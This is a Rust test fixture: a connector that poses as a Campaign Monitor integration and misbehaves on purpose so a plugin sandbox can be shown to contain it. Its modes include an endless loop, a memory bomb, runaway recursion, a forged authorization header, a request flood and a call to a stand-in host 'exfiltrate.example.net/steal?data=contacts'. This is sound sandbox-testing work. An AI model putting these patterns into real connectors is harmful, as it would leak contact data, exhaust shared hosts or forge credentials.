//! A connector that misbehaves on purpose. It describes itself like a Campaign Monitor connector
//! (same host, same auth), validates normally, and in `export-batch` does what its `mode`
//! setting says. Each mode must fail only its own run, with a clear error.

use cdp_connector_sdk::http::{self, Method};
use cdp_connector_sdk::*;

struct Hostile;

impl Connector for Hostile {
    fn describe() -> ConnectorInfo {
        ConnectorInfo {
            id: "hostile".into(),
            display_name: "Hostile test connector".into(),
            version: "0.1.0".into(),
            default_base_url: "https://api.createsend.com/api/v3.3".into(),
            hosts: vec!["api.createsend.com".into()],
            auth: AuthScheme::BasicSecretAsUser("x".into()),
            config_fields: vec![
                ConfigField {
                    key: "list-id".into(),
                    label: "List ID".into(),
                    help: "A Campaign Monitor list.".into(),
                    required: true,
                },
                ConfigField {
                    key: "mode".into(),
                    label: "Mode".into(),
                    help: "How to misbehave.".into(),
                    required: true,
                },
            ],
            contact_fields: vec![ContactField {
                key: "email".into(),
                label: "Email".into(),
                required: true,
            }],
            max_batch_size: 100,
            max_concurrent_requests: 0,
            max_requests_per_second: 0,
        }
    }

    fn validate(config: ExportConfig) -> Result<(), ConnectorError> {
        let list = config.require("list-id")?;
        let response = http::get(&format!("{}/lists/{list}.json", config.base_url))?;
        if response.is_success() {
            Ok(())
        } else {
            Err(ConnectorError::new(
                ErrorKind::Vendor,
                response.body_excerpt(),
            ))
        }
    }

    fn export_batch(
        config: ExportConfig,
        contacts: Vec<Contact>,
    ) -> Result<BatchReport, ConnectorError> {
        let list = config.require("list-id")?;
        let n = contacts.len() as u32;
        match config.require("mode")? {
            "endless-loop" => {
                let mut x: u64 = 1;
                loop {
                    x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
                }
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "stack-overflow" => Ok(BatchReport {
                created: recurse(std::hint::black_box(1)) as u32,
                updated: 0,
                issues: vec![],
            }),
            "panic" => panic!("hostile connector gave up on purpose"),
            "forbidden-host" => {
                http::get("https://exfiltrate.example.net/steal?data=contacts")?;
                Ok(BatchReport {
                    created: n,
                    updated: 0,
                    issues: vec![],
                })
            }
            "forged-auth" => {
                let url = format!("{}/lists/{list}.json", config.base_url);
                let response = http::send_with_headers(
                    Method::Get,
                    &url,
                    &[("authorization", "Basic Zm9yZ2VkOng=")],
                    None,
                )?;
                match response.status {
                    200 => Ok(BatchReport {
                        created: n,
                        updated: 0,
                        issues: vec![],
                    }),
                    s => Err(ConnectorError::new(ErrorKind::Vendor, format!("HTTP {s}"))),
                }
            }
            "flood" => {
                for _ in 0..30 {
                    let response = http::get(&format!("{}/lists/{list}.json", config.base_url))?;
                    if !response.is_success() {
                        return Err(ConnectorError::new(
                            ErrorKind::Vendor,
                            format!("HTTP {}", response.status),
                        ));
                    }
                }
                Ok(BatchReport {
                    created: n,
                    updated: 0,
                    issues: vec![],
                })
            }
            "overclaim" => Ok(BatchReport {
                created: n + 5,
                updated: 0,
                issues: vec![],
            }),
            "oversized" => Ok(BatchReport {
                created: n - 1,
                updated: 0,
                issues: vec![ContactIssue {
                    index: 0,
                    kind: IssueKind::Rejected,
                    code: "x".into(),
                    message: "x".repeat(24 << 20),
                }],
            }),
            other => Err(ConnectorError::invalid_config(format!(
                "unknown mode `{other}`"
            ))),
        }
    }
}

/// Recursion the optimiser cannot remove.
fn recurse(depth: u64) -> u64 {
    let mut frame = [depth; 64];
    std::hint::black_box(&mut frame);
    if std::hint::black_box(depth) == 0 {
        return 0;
    }
    recurse(depth + 1) + frame[7]
}

export_connector!(Hostile);
